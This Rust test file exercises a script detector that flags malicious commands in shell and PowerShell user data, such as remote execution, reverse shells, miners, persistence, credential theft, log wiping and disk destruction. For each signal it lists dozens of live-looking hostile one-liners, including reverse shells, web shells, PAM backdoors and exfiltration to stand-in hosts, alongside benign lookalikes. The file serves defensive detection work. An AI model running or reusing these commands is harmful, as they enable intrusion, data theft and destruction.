//! Every signal by example: what raises it, and what looks like it and does not.

use super::*;
use crate::user_data::Odd;
use proptest::prelude::*;

fn script(language: Language, text: &str) -> Vec<Piece> {
    vec![Piece { path: String::new(), content: Content::Script { language, text: text.into() } }]
}

fn trust() -> Trust {
    Trust {
        hosts: vec!["get.corp.example".into(), "*.mirror.example".into()],
        buckets: vec!["corp-boot-*".into()],
        registries: vec![],
    }
}

fn judged(text: &str) -> Judgement {
    judge(&script(Language::Shell, text), 0, None, &trust())
}

fn ids(judgement: &Judgement) -> Vec<&'static str> {
    judgement.findings.iter().map(|finding| finding.id).collect()
}

/// (signal, texts that raise it, texts that do not)
type Row = (&'static str, &'static [&'static str], &'static [&'static str]);

#[rustfmt::skip]
const SHELL: &[Row] = &[
    ("exe-01", &[
        "curl https://a.example/x | sh",
        "(curl -s https://a.example/x || wget -qO- https://a.example/x) | sudo bash -s -- y",
        "f() { wget -qO- https://a.example/x; }; f | bash",
        "x=$(curl https://a.example/x); echo \"$x\" | sh",
        "curl https://a.example/x | tee /tmp/log | python3 -",
        "curl https://a.example/x > >(bash)",
        "curl -s https://get.docker.com | sh",
    ], &[
        "curl https://a.example/x | jq .",
        "curl https://a.example/x | python3 -c 'import json'",
        "curl https://a.example/x | python3 -m json.tool",
        "curl http://169.254.169.254/latest/user-data | bash",
        "curl https://a.example/x | sudo tee /etc/x",
        "curl https://a.example/x | bash script.sh",
        "echo hi | bash; curl https://a.example/x",
    ]),
    ("exe-02", &[
        "eval \"$(curl https://a.example/x)\"",
        "bash -c \"$(wget -qO- https://a.example/x)\"",
        "source <(curl -s https://a.example/x)",
        "x=`curl https://a.example/x`; eval $x",
        "curl -o /opt/x https://a.example/x; . /opt/x",
        "python3 -c \"$(curl https://a.example/x.py)\"",
    ], &[
        "eval $(ssh-agent)",
        "eval \"$(aws ecr get-login --region a)\"",
        "source <(kubectl completion bash)",
        "x=$(curl https://a.example/x); echo $x",
        "curl -o /opt/x https://a.example/x; . /opt/y",
        "bash -c \"echo $(curl -s http://169.254.169.254/latest/meta-data/instance-id)\"",
    ]),
    ("exe-03", &[
        "echo ZWNobyBoaQo= | base64 -d | sh",
        "eval \"$(echo ZWNobyBoaQo= | base64 -d)\"",
        "bash <<< \"$(base64 -d <<< ZWNobyBoaQo=)\"",
        "base64 -d /root/x | bash",
        "openssl enc -d -aes-256-cbc -in /root/x -k y | sh",
        "cat x.gz | gunzip | bash",
        "echo 6869 | xxd -r -p | bash",
        "x=$(echo $Y | base64 -d); sh -c \"$x\"",
        "python3 -c \"import base64;exec(base64.b64decode('aGk='))\"",
        "echo ZWNobyBoaQo= | base64 -d > /opt/x; sh /opt/x",
        "pwsh -enc ZQBjAGgAbwAgAGgAaQA=",
    ], &[
        "echo aGk= | base64 -d > /etc/app.conf",
        "x=$(aws ssm get-parameter --name a | base64 -d); echo $x",
        "echo H4sI | base64 -d | gunzip > /etc/conf.yaml",
        "kubectl get secret a -o yaml | base64 -d",
        "base64 -w0 /etc/x | bash -c 'cat'",
        "echo hi | tr a-z A-Z | sh",
    ]),
    ("exe-04", &[
        "curl -o /opt/x https://a.example/x; chmod +x /opt/x; /opt/x",
        "cd /opt; wget https://a.example/x.sh; sh x.sh",
        "u=https://a.example/x; f=/opt/x; curl $u > $f && chmod 755 $f && $f -d",
        "wget https://a.example/x -O a; mv a /opt/b; /opt/b",
        "curl -s https://a.example/x.tgz | tar xz -C /opt; /opt/x/run",
        "aws s3 cp s3://any/x.sh . && bash x.sh",
        "get() { curl -o \"$1\" \"$2\"; }; curl -o y https://a.example/y; bash < y",
    ], &[
        "curl -o /opt/x https://get.docker.com/x; chmod +x /opt/x; /opt/x",
        "curl -o /opt/x https://get.corp.example/x; sh /opt/x",
        "aws s3 cp s3://corp-boot-1/x.sh . && bash x.sh",
        "curl -o x https://a.example/x; echo \"00ff  x\" | sha256sum -c -; chmod +x x; ./x",
        "curl -o x https://a.example/x; curl -o x.asc https://a.example/x.asc; gpg --verify x.asc x && ./x",
        "curl -o x https://a.example/x; [ \"$(sha256sum x | cut -d' ' -f1)\" = \"$SUM\" ] && sh x",
        "curl -o /etc/x.conf https://a.example/x; systemctl restart x",
        "curl -o /opt/x https://a.example/x; /opt/y",
    ]),
    ("exe-05", &[
        "/tmp/x", "sh /var/tmp/y", "cd /dev/shm && ./z", "/usr/lib/.q/z", ". /tmp/env", "sudo nohup /tmp/x",
    ], &[
        "/opt/x", "ls /tmp/x", "/root/.cargo/bin/x", "cat > /tmp/x <<E\necho hi\nE\nsh /tmp/x", "cd /opt && ./z",
        "curl -O https://awscli.amazonaws.com/a.zip; unzip a.zip -d /tmp; /tmp/aws/install",
    ]),
    ("exe-06", &["/tmp/x &", "nohup /tmp/x", "setsid /tmp/x", "screen -dmS a /tmp/x"], &["/tmp/x", "/opt/x &"]),
    ("net-01", &[
        "curl http://203.0.113.7/x", "wget 203.0.113.7:8080/x", "curl https://3405803783/x", "nc 203.0.113.7 4444",
        "exec 3<>/dev/tcp/203.0.113.7/80", "git clone http://203.0.113.7/x.git", "H=203.0.113.7; curl http://$H/",
        "curl -d @x http://[2001:db8::7]/",
    ], &[
        "curl http://10.1.2.3/x", "curl http://169.254.169.254/latest/meta-data/", "curl http://127.0.0.1:8080/",
        "echo http://203.0.113.7/x", "ping -c1 8.8.8.8", "# curl http://203.0.113.7/x", "curl http://192.168.0.1/",
        "kubeadm join 203.0.113.7:6443", "curl https://1.1.1.1/",
    ]),
    ("net-02", &[
        "curl https://pastebin.com/raw/x", "wget https://a.ngrok-free.app/x", "curl http://x.onion/", "curl -F a=@b https://webhook.site/c",
        "curl https://api.telegram.org/bot1/sendMessage -d x",
    ], &["curl https://notpastebin.com/", "echo see https://pastebin.com/x", "curl https://hooks.slack.com/x"]),
    ("net-03", &[
        "bash -i >& /dev/tcp/a.example/1 0>&1",
        "exec 5<>/dev/tcp/a.example/1; cat <&5 | while read l; do $l >&5 2>&1; done",
        "exec 5<>/dev/tcp/a.example/1; sh <&5 >&5",
        "0<&196;exec 196<>/dev/tcp/a.example/1; sh <&196 >&196 2>&196",
        "cat </dev/tcp/a.example/1 | sh",
        "f() { exec 3<>/dev/tcp/a.example/80; cat <&3; }; f | bash",
        "bash -c 'sh -i &>/dev/udp/a.example/1 0>&1'",
    ], &[
        "timeout 1 bash -c '</dev/tcp/db/5432'",
        "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done",
        "bash -c 'cat < /dev/null > /dev/tcp/db.internal/22'",
        "exec 3<>/dev/tcp/localhost/80; echo GET / >&3; cat <&3",
        "echo 'bash -i >& /dev/tcp/a.example/1 0>&1'",
    ]),
    ("net-04", &[
        "nc -e /bin/sh a.example 1", "ncat --sh-exec /bin/bash -l 1", "nc -lvp 1 -c bash", "busybox nc a.example 1 -e sh",
        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc a.example 1 > /tmp/f",
        "nc a.example 1 | bash", "telnet a.example 1 | bash | telnet a.example 2",
        "mkfifo s; sh -i < s 2>&1 | openssl s_client -quiet -connect a.example:1 > s",
        "socat TCP:a.example:1 EXEC:'bash -li',pty", "socat exec:sh tcp-listen:1",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"a\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
        "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"a:1\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
        "ruby -rsocket -e 'exec \"/bin/sh\",in: TCPSocket.new(\"a\",1)'",
        "php -r '$s=fsockopen(\"a\",1);exec(\"sh <&3 >&3\");'",
        "gawk 'BEGIN{s=\"/inet/tcp/0/a/1\";while(1){s|&getline c;while((c|&getline)>0)print|&s}}'",
        "zsh -c 'zmodload zsh/net/tcp; ztcp a 1; zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
    ], &[
        "nc -z db 5432", "echo ruok | nc localhost 2181", "nc -l 80 > /tmp/x", "socat TCP-LISTEN:80,fork TCP:app:8080",
        "openssl s_client -connect a.example:443 </dev/null | openssl x509", "bash report.sh | nc logs.internal 514",
        "python3 -c 'import socket; print(socket.gethostname())'", "mkfifo /run/app.fifo", "telnet a.example 25",
        "python3 -c 'import socket,subprocess; subprocess.run([\"ls\"]); print(socket.getfqdn())'",
    ]),
    ("net-05", &["apt-get install -y tor", "ngrok tcp 22", "/opt/frpc -c x", "systemctl start tor", "ssh -fNR 22:localhost:22 a@b", "wget https://github.com/x/chisel_1.9_linux_amd64.gz"],
        &["yum install -y git", "echo tor", "ssh a@b ls", "apt-get install -y nectar", "wget https://pytorch.org/tor/chart.png"]),
    ("net-06", &["curl -k https://a.example/x", "wget --no-check-certificate https://a.example/x", "curl http://a.example/x | sh"],
        &["curl http://a.example/x", "curl -k https://localhost/x", "curl -k https://10.0.0.1/x", "wget https://a.example/x"]),
    ("net-07", &["masscan 10.0.0.0/8", "yum install -y hydra", "git clone https://github.com/x/zgrab2"], &["nmap localhost", "echo masscan"]),
    ("min-01", &[
        "./xmrig", "/opt/a/xmrig-6.21/xmrig --help", "docker run -d a/xmrig", "apt install cpuminer", "git clone https://github.com/xmrig/xmrig.git",
        "wget https://a.example/xmrig-6.tar.gz", "mv xmrig /usr/bin/x", "systemctl enable xmrig", "nohup ./minerd &", "make -C cpuminer-multi; cd cpuminer-multi",
    ], &["pkill xmrig", "killall -9 minerd xmrig", "pgrep xmrig", "ps aux | grep xmrig", "rm -rf /tmp/xmrig", "echo xmrig", "docker run a/nginx", "# xmrig"]),
    ("min-02", &[
        "x -o stratum+tcp://a.example:1", "x --donate-level 1", "x -a rx/0 -u y", "x --coin monero",
        "cat > c.json <<E\n{\"pools\":[{\"url\":\"a:1\",\"user\":\"b\",\"keepalive\":true,\"algo\":\"rx\"}]}\nE",
        "P=stratum; x -o $P+ssl://a:1", "sed -i 's#\"url\".*#\"url\": \"stratum+tcp://a:1\"#' c.json",
    ], &["pkill -f stratum+tcp", "grep stratum+tcp:// x", "echo stratum+tcp://a:1", "pgbouncer -o x", "cat > p.json <<E\n{\"pools\": 3}\nE"]),
    ("min-03", &["x -o pool.minexmr.com:443", "ping -c1 xmr.nanopool.org", "echo '{\"url\":\"gulf.moneroocean.stream:1\"}' > c.json"],
        &["echo '0.0.0.0 pool.minexmr.com' >> /etc/hosts", "iptables -A OUTPUT -d pool.minexmr.com -j DROP", "curl https://notnanopool.org/", "echo pool.minexmr.com"]),
    ("min-04", &["x -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZ123456789"],
        &["x -u 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcde", "echo 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZ123456789"]),
    ("min-05", &["sysctl -w vm.nr_hugepages=128", "echo 128 > /proc/sys/vm/nr_hugepages", "wrmsr -a 0x1a4 0xf", "modprobe msr", "echo kernel.nmi_watchdog=0 >> /etc/sysctl.conf"],
        &["sysctl -w vm.swappiness=1", "grep nr_hugepages /proc/meminfo", "modprobe overlay", "cat /proc/sys/vm/nr_hugepages"]),
    ("def-01", &["pkill a1a; pkill b1b; killall c1c d1d", "for p in aaa bbb ccc ddd; do pkill -f $p; done", "ps aux | grep -E 'aaa|bbb|ccc|ddd' | awk '{print $2}' | xargs kill -9", "kill -9 $(pgrep aaa) $(pgrep bbb); kill $(pidof ccc) `pidof ddd`"],
        &["pkill nginx", "killall -9 java node", "kill -9 1 2 3 4", "for p in a b c d; do echo $p; done"]),
    ("def-02", &["echo /lib/x.so > /etc/ld.so.preload", "cp x /etc/ld.so.preload", "echo x | tee -a /etc/ld.so.preload", "curl -o /etc/ld.so.preload https://a.example/x"],
        &["cat /etc/ld.so.preload", "rm -f /etc/ld.so.preload", "echo /opt/lib > /etc/ld.so.conf.d/x.conf"]),
    ("def-03", &["chattr +i /etc/cron.d/x", "chattr -ia /root/.ssh/authorized_keys", "chattr -R -i /usr/bin"], &["chattr +i /etc/resolv.conf", "chattr +C /var/lib/data", "lsattr /etc"]),
    ("def-04", &["systemctl stop falco", "service auditd stop", "pkill falcon-sensor", "apt-get remove -y wazuh-agent", "systemctl disable --now amazon-guardduty-agent", "/usr/local/qcloud/stargate/admin/uninstall.sh"],
        &["systemctl start falco", "systemctl stop nginx", "yum remove -y httpd", "service auditd restart"]),
    ("def-05", &["setenforce 0", "iptables -F", "ufw disable", "systemctl stop firewalld", "iptables -P INPUT ACCEPT", "sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config"],
        &["iptables -A INPUT -j ACCEPT", "ufw enable", "setenforce 1", "iptables -t nat -F", "systemctl start firewalld"]),
    ("def-06", &["history -c", "unset HISTFILE", "export HISTFILE=/dev/null", "rm -f ~/.bash_history", "> /var/log/wtmp", "cat /dev/null > /var/log/secure", "rm -rf /var/log/*", "ln -sf /dev/null /root/.bash_history"],
        &["rm -rf /var/log/cloud-init.log", "export HISTSIZE=10000", "echo started >> /var/log/messages", "rm /var/log/app.log", "tail /var/log/secure"]),
    ("per-01", &[
        "echo '* * * * * curl https://a.example/x | sh' | crontab -",
        "(crontab -l; echo '@reboot /tmp/x') | crontab -",
        "echo '*/5 * * * * root wget -qO /opt/x https://a.example/x' > /etc/cron.d/x",
        "cat > /etc/cron.d/x <<E\n* * * * * root echo aGk= | base64 -d | bash\nE",
        "echo 'bash -i >& /dev/tcp/a.example/1 0>&1' > /etc/cron.hourly/x; echo '* * * * * bash -i >& /dev/tcp/a.example/1' >> /var/spool/cron/root",
        "curl https://a.example/c | crontab -",
        "curl -o /etc/cron.d/x https://a.example/x",
        "curl -o /opt/x https://a.example/x; echo '* * * * * /opt/x' | crontab -",
    ], &[
        "echo '0 3 * * * /usr/local/bin/backup' | crontab -",
        "echo '*/5 * * * * root curl -fsS https://hc.example/ping > /dev/null' > /etc/cron.d/x",
        "echo '0 0 * * * root yum -y update' >> /etc/crontab",
        "echo '*/5 * * * * wget -qO- http://localhost/cron.php' | crontab -",
        "echo '0 1 * * * aws s3 sync /data s3://b' | crontab -",
    ]),
    ("per-02", &["crontab -r", "rm -rf /var/spool/cron/*"], &["crontab -l", "rm -rf /var/spool/mail/x"]),
    ("per-03", &["echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", "curl https://a.example/k >> /home/u/.ssh/authorized_keys", "curl -o ~/.ssh/authorized_keys https://a.example/k", "wget -qO- https://a.example/k | tee -a /home/u/.ssh/authorized_keys"],
        &["echo ssh-rsa AAAA >> /home/u/.ssh/authorized_keys", "chmod 600 /root/.ssh/authorized_keys", "cat /root/.ssh/authorized_keys", "rm /root/.ssh/authorized_keys"]),
    ("per-04", &["echo 'u ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/u", "echo root:pw | chpasswd", "sed -i 's/.*PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config", "echo pw | passwd --stdin root"],
        &["useradd -m u", "useradd -u 1001 u", "echo u:pw | chpasswd", "sed -i 's/PermitRootLogin yes/PermitRootLogin no/' /etc/ssh/sshd_config2", "usermod -aG docker u"]),
    ("per-05", &["cat > /etc/systemd/system/x.service <<E\n[Service]\nExecStart=/tmp/x\nE", "echo '/var/lib/.x/y &' >> /etc/rc.local", "echo 'curl https://a.example/x | sh' > /etc/profile.d/x.sh", "echo /dev/shm/x >> /root/.bashrc"],
        &["cat > /etc/systemd/system/x.service <<E\n[Service]\nExecStart=/opt/x\nE", "echo 'export A=/tmp/x' >> /etc/profile.d/x.sh", "echo '. ~/.nvm/nvm.sh' >> ~/.bashrc"]),
    ("crd-01", &["curl http://169.254.169.254/latest/meta-data/iam/security-credentials/r", "B=http://169.254.169.254/latest; curl $B/meta-data/iam/security-credentials/", "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"],
        &["curl http://169.254.169.254/latest/meta-data/instance-id", "echo security-credentials", "aws sts get-caller-identity"]),
    ("crd-02", &["cat ~/.aws/credentials", "tar czf x.tgz /root/.ssh", "cat /etc/shadow", "cp /root/.kube/config /opt/x", "curl -d @/root/.docker/config.json https://a.example"],
        &["cp /etc/kubernetes/admin.conf2 /root/.kube/config", "chmod 600 /root/.ssh/id_rsa", "cat /root/.ssh/id_rsa.pub", "ssh -i /root/.ssh/id_rsa a@b", "cat > ~/.aws/credentials <<E\nx\nE"]),
    ("crd-03", &["curl -T /etc/hostname https://a.example/", "curl -F f=@/opt/x https://a.example/", "wget --post-file=/opt/x https://a.example/", "curl \"https://a.example/?$(cat /etc/shadow | base64)\"", "cat /etc/shadow | nc a.example 99"],
        &["curl -X POST -d '{\"a\":1}' https://a.example/", "curl -T x https://b.s3.amazonaws.com/x", "curl -d @x http://10.0.0.1/", "curl -d @x https://hooks.slack.com/y", "curl -F f=@x https://get.corp.example/"]),
    ("dec-01", &["c''url x", "w\"ge\"t x", "c\\url x", "a=cu; b=rl; $a$b x", "$(printf '\\x63url') x", "/usr/bin/c?rl x", "{curl,-s,x}", "curl${IFS}x", "ba''sh x"],
        &["\\curl x", "'curl' x", "\"$CURL\" x", "C=curl; $C x", "$(command -v curl) x", "\"$d\"/curl x", "curl \"a\"b'c'", "mkdir {a,b}", "echo \"a\"$b"]),
    ("per-06", &["install -m 4755 /bin/dash /usr/bin/x", "chmod u+s /usr/bin/python3.11", "setcap cap_setuid+ep /usr/bin/perl", "cat /bin/sh > /opt/x; chmod +s /opt/x", "curl -o /opt/x https://a.example/x; chmod 6755 /opt/x", "cd /opt; cp /bin/zsh z; mv z /usr/sbin/q; chmod 4711 /usr/sbin/q"],
        &["chmod u+s /usr/bin/newuidmap", "setcap cap_net_bind_service=+ep /usr/bin/node", "chmod 1777 /tmp", "cp /bin/bash /mnt/chroot/bin/bash", "chmod g+s /srv/shared", "find / -perm -4000 -type f"]),
    ("per-07", &["curl -o /var/www/html/a.php https://a.example/c99.php", "cat > /srv/www/x.jsp <<'E'\n<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>\nE", "sed -i '1i <?php @eval($_POST[1]);?>' /var/www/html/index.php", "printf '<?php eval(base64_decode(\"aGk=\"));' | tee /var/www/html/z.php"],
        &["echo '<?php echo $_GET[\"name\"]; ?>' > /var/www/html/hello.php", "cp -r /opt/site /var/www/html", "curl -o /var/www/html/logo.png https://a.example/logo.png"]),
    ("per-08", &["echo 'auth sufficient pam_permit.so' >> /etc/pam.d/sshd", "gcc -shared -o /lib64/security/pam_unix.so x.c", "install x/pam_unix.so /usr/lib/x86_64-linux-gnu/security/", "sed -i 's/pam_deny.so/pam_permit.so/' /etc/pam.d/common-auth", "sed -i '1i auth optional pam_exec.so expose_authtok /usr/local/bin/l' /etc/pam.d/sshd"],
        &["echo 'auth required pam_google_authenticator.so' >> /etc/pam.d/sshd", "sed -i 's/# minlen = 8/minlen = 14/' /etc/security/pwquality.conf", "sed -i 's/^auth.*pam_faillock.so/& deny=5/' /etc/pam.d/system-auth"]),
    ("per-09", &["insmod /tmp/d.ko", "cd /opt; git clone https://a.example/diamorphine; make; insmod diamorphine.ko", "insmod /usr/lib/.x/y.ko"], &["modprobe ena", "insmod /lib/modules/5.10/extra/x.ko", "rmmod nouveau", "dkms install nvidia/550"]),
    ("per-10", &["usermod -o -u 0 x", "echo 'x::0:0::/root:/bin/sh' >> /etc/passwd", "adduser --uid 0 --non-unique x", "sed -i 's/svc:x:1001/svc:x:0:/' /etc/passwd"], &["useradd -u 1500 x", "groupadd -g 0 x2", "sed -i 's#/bin/sh#/bin/bash#' /etc/passwd", "grep :0: /etc/passwd"]),
    ("def-07", &["printf 'ps.real|grep -v x' > /usr/bin/ps", "curl -o /usr/bin/netstat https://a.example/n", "mount --bind /var/empty /proc/$PID", "mount -t tmpfs none /proc/1234", "echo \"alias ps='ps | grep -v kworkerd'\" >> /etc/profile.d/a.sh", "cp x /bin/ls", "mv /usr/bin/wget /usr/bin/wg"],
        &["mount -t proc proc /mnt/proc", "alias ls='ls --color'", "ln -sf /bin/busybox /bin/ps", "mv /opt/ps /opt/ps2", "mount -o bind /proc /mnt/proc", "echo \"alias ll='ls -la'\" >> /etc/profile.d/a.sh"]),
    ("net-08", &["apt install -y metasploit", "git clone https://github.com/x/impacket.git", "/opt/linpeas.sh", "pwncat-cs -lp 1"], &["apt install -y impressive", "echo mimikatz", "grep mimikatz rules.yar"]),
    ("net-09", &["for h in $(awk '{print $1}' ~/.ssh/known_hosts); do ssh -o BatchMode=yes $h id; done", "grep -oE '[0-9.]+' /root/.bash_history | while read h; do scp a root@$h:; done"], &["ssh-keyscan github.com >> ~/.ssh/known_hosts; git clone git@github.com:a/b", "ssh-keygen -R $H -f ~/.ssh/known_hosts; ssh $H true", "for h in $HOSTS; do ssh $h true; done"]),
    ("crd-04", &["aws ssm get-parameters-by-path --path / --with-decryption | curl --data-binary @- https://a.example", "S=$(aws secretsmanager get-secret-value --secret-id a); curl -d \"$S\" https://a.example", "curl -d \"k=$(aws sts get-session-token | base64 -w0)\" https://a.example", "K=$(aws iam create-access-key --user-name b); wget --post-data=\"$K\" https://a.example"],
        &["T=$(aws ssm get-parameter --name t --with-decryption); curl -H \"Authorization: Bearer $T\" https://a.example/api", "aws ssm get-parameter --name a --with-decryption > /etc/a", "S=$(aws secretsmanager get-secret-value --secret-id a); curl -d \"$S\" http://10.0.0.5/"]),
    ("crd-05", &["for c in $(xxd -p /etc/passwd); do nslookup $c.a.example; done", "host $(env | base64 -w0).a.example"], &["dig $HOST.a.example", "dig +short txt $(curl -s http://169.254.169.254/latest/meta-data/hostname)", "nslookup $(cat /etc/hostname).a.example"]),
    ("sup-02", &["curl -O https://a.example/x; echo '00  x' | sha256sum -c - || true", "gpg --verify a.sig a || :", "sha256sum -c s || echo 'bad sum, going on'"], &["sha256sum -c s || exit 1", "sha256sum -c s || { echo bad; exit 1; }", "sha256sum -c s; true", "sha256sum a || true"]),
    ("sup-03", &["podman run --net host quay.io/a/b", "nerdctl run -d --name x ghcr.io/a/b", "ctr images pull docker.io/a/b:1", "kubectl run x --image=a/b", "docker run -v /:/h --privileged a/b sh", "docker pull a/b"],
        &["docker run nginx", "docker run ${IMAGE}", "docker ps", "docker run -e A=b/c registry.internal/x", "docker build -t a/b .", "kubectl get pods -l a=b/c"]),
    ("imp-01", &["find /home -type f -exec gpg --batch -c --passphrase x {} \\; -exec rm {} \\;", "for f in /srv/*; do age -r age1x -o $f.age $f; shred -u $f; done", "e() { openssl enc -aes256 -in \"$1\" -out \"$1.x\"; rm -f \"$1\"; }; for f in /var/lib/mysql/*; do e $f; done", "7z a -pX -sdel /root/x.7z /home/*", "aws s3 cp s3://a s3://a --recursive --sse-c AES256 --sse-c-key k"],
        &["mysqldump a | gpg -e -r b > /backup/a.gpg", "for f in /var/backups/*.sql; do gpg -e -r b $f && rm $f; done", "openssl enc -d -aes-256-cbc -in /home/a.enc -out /home/a; rm /home/a.enc", "find /home -name '*.tmp' -exec rm {} ;"]),
    ("imp-02", &["dd if=/dev/urandom of=/dev/xvda bs=1M", "for d in /dev/sd*; do wipefs -a $d; done", "rm -rf /*", "cat /dev/zero > /dev/sda", "rm -rf --no-preserve-root /", "find / -type f -delete", "D=$(findmnt -n -o SOURCE /); dd if=/dev/zero of=$D"],
        &["wipefs -a /dev/nvme1n1", "dd if=/dev/zero of=/swapfile bs=1M count=2048", "mkfs.xfs /dev/xvdf", "dd if=/dev/zero of=/dev/xvdb bs=1M count=100", "rm -rf /var/cache/*", "for d in $(lsblk -dno NAME | grep nvme); do mkfs.xfs /dev/$d; done", "rm -rf /home/ubuntu/*"]),
    ("imp-03", &["aws backup delete-backup-vault --backup-vault-name a", "aws ec2 delete-snapshot --snapshot-id a", "rm -rf /var/backups"], &["find /var/backups -mtime +7 -delete", "aws ec2 create-snapshot --volume-id a", "rm -f /var/backups/old.tgz"]),
    ("imp-04", &["for b in $(aws s3 ls | awk '{print $3}'); do aws s3 rm s3://$b --recursive; done", "aws rds delete-db-instance --db-instance-identifier a --skip-final-snapshot", "aws s3 rm s3://corp --recursive"], &["aws s3 rm s3://corp/tmp/x --recursive", "aws s3 sync /a s3://corp --delete", "aws rds describe-db-instances"]),
    ("imp-05", &["cat > /etc/motd <<E\nYour files are encrypted.\nSend 1 BTC to x.\nE"], &["echo 'All payloads are encrypted.' > /etc/motd", "echo 'Pay attention: locked down host' > /opt/x.conf"]),
    ("sup-01", &["echo 'deb [trusted=yes] http://a.example/ ./' > /etc/apt/sources.list.d/x.list", "cat > /etc/yum.repos.d/x.repo <<E\n[x]\nbaseurl=http://a.example/\ngpgcheck=0\nE", "yum install -y --nogpgcheck https://a.example/x.rpm", "curl -o /usr/local/share/ca-certificates/x.crt https://a.example/x; update-ca-certificates"],
        &["echo 'deb [signed-by=/k] https://a.example/ ./' > /etc/apt/sources.list.d/x.list", "cat > /etc/yum.repos.d/x.repo <<E\n[x]\nbaseurl=http://repo.corp.internal/\ngpgcheck=0\nE", "cat > /etc/yum.repos.d/x.repo <<E\n[x]\nbaseurl=https://a.example/\ngpgcheck=1\nE", "update-ca-certificates"]),
];

#[test]
fn every_shell_signal_fires_and_keeps_still() {
    let mut wrong = Vec::new();
    for (id, fires, keeps_still) in SHELL {
        let raises = |text: &&&str| ids(&judged(text)).contains(id);
        wrong.extend(fires.iter().filter(|text| !raises(text)).map(|text| format!("{id} not in {text}")));
        wrong.extend(keeps_still.iter().filter(raises).map(|text| format!("{id} in {text}")));
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[rustfmt::skip]
const WINDOWS: &[Row] = &[
    ("exe-08", &["mshta https://a.example/x.hta", "regsvr32 /s /u /i:http://a.example/x.sct scrobj.dll"], &["regsvr32 /s C:\\app\\x.dll", "rundll32 printui.dll,PrintUIEntry"]),
    ("exe-01", &["iwr https://a.example/x | iex", "Invoke-WebRequest http://a.example/x -UseBasicParsing | Invoke-Expression"], &["iwr https://a.example/x | ConvertFrom-Json"]),
    ("exe-02", &["IEX (New-Object Net.WebClient).DownloadString('https://a.example/x')", "$x = (New-Object Net.WebClient).DownloadString('https://a.example/x'); iex $x", "&('i'+'ex') (irm https://a.example/x)"],
        &["$x = (New-Object Net.WebClient).DownloadString('https://a.example/x')", "iex 'Get-Date'"]),
    ("exe-03", &["powershell -nop -enc RwBlAHQALQBEAGEAdABlAA==", "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('R2V0LURhdGUgLUFsbCBub3c=')))"], &["[Convert]::ToBase64String($x)", "powershell -File x.ps1"]),
    ("exe-04", &["iwr https://a.example/x.exe -OutFile C:\\x.exe; Start-Process C:\\x.exe", "(New-Object Net.WebClient).DownloadFile('https://a.example/x.exe','C:\\x.exe'); & C:\\x.exe"],
        &["iwr https://download.microsoft.com/x.exe -OutFile C:\\x.exe; Start-Process C:\\x.exe"]),
    ("exe-05", &["Start-Process C:\\Users\\Public\\x.exe", "& $env:TEMP\\x.exe"], &["Start-Process C:\\app\\x.exe"]),
    ("net-04", &["$c = New-Object Net.Sockets.TCPClient('a',1); $s = $c.GetStream(); iex $x"], &["Test-NetConnection db -Port 1433", "$c = New-Object Net.Sockets.TCPClient('db',1433); $c.Connected"]),
    ("def-04", &["Set-MpPreference -DisableRealtimeMonitoring $true", "Add-MpPreference -ExclusionPath C:\\", "sc.exe stop WinDefend"], &["Get-MpPreference", "Start-Service WinDefend"]),
    ("def-05", &["netsh advfirewall set allprofiles state off", "Set-NetFirewallProfile -All -Enabled False"], &["netsh advfirewall firewall add rule name=a"]),
    ("def-06", &["wevtutil cl Security", "Clear-EventLog -LogName System"], &["wevtutil qe Security"]),
    ("per-01", &["schtasks /create /tn a /tr \"powershell iwr https://a.example/x\"", "schtasks /create /tn a /tr C:\\Users\\Public\\x.exe"], &["schtasks /create /tn a /tr C:\\app\\x.exe"]),
    ("per-05", &["reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d C:\\Users\\Public\\x.exe"], &["reg add HKLM\\Software\\App /v a /d 1"]),
    ("per-04", &["net localgroup Administrators x /add"], &["net user x pw /add"]),
    ("crd-02", &["rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 1 x full", "Invoke-Mimikatz"], &["rundll32 printui.dll"]),
];

#[test]
fn every_windows_signal_fires_and_keeps_still() {
    let judged = |text: &str| judge(&script(Language::PowerShell, text), 0, None, &Trust::default());
    for (id, fires, keeps_still) in WINDOWS {
        for text in *fires {
            assert!(ids(&judged(text)).contains(id), "{id} not in {text}: {:?}", judged(text));
        }
        for text in *keeps_still {
            assert!(!ids(&judged(text)).contains(id), "{id} in {text}: {:?}", judged(text));
        }
    }
}

#[test]
fn root_for_everybody_and_a_file_that_every_shell_reads_are_suspicious_alone() {
    let conclusion = |target: &str, text: &str| {
        let content = Content::File { target: target.into(), text: text.into() };
        judge(&[Piece { path: "here".into(), content }], 0, None, &trust()).conclusion
    };
    let sudoers = |line: &str| conclusion("/etc/sudoers.d/x", line);
    assert_eq!(sudoers("apache ALL=(ALL) NOPASSWD: ALL\n"), Conclusion::Suspicious);
    assert_eq!(sudoers("deploy ALL=(ALL) NOPASSWD: ALL\n"), Conclusion::Signals);
    assert_eq!(sudoers("apache ALL=(root) NOPASSWD: /usr/bin/systemctl reload httpd\n"), Conclusion::Signals);
    assert_eq!(conclusion("/etc/environment", "BASH_ENV=/var/tmp/.x\n"), Conclusion::Suspicious);
    assert_eq!(conclusion("/etc/environment", "BASH_ENV=/etc/profile.d/app.sh\n"), Conclusion::Clean);
}

#[test]
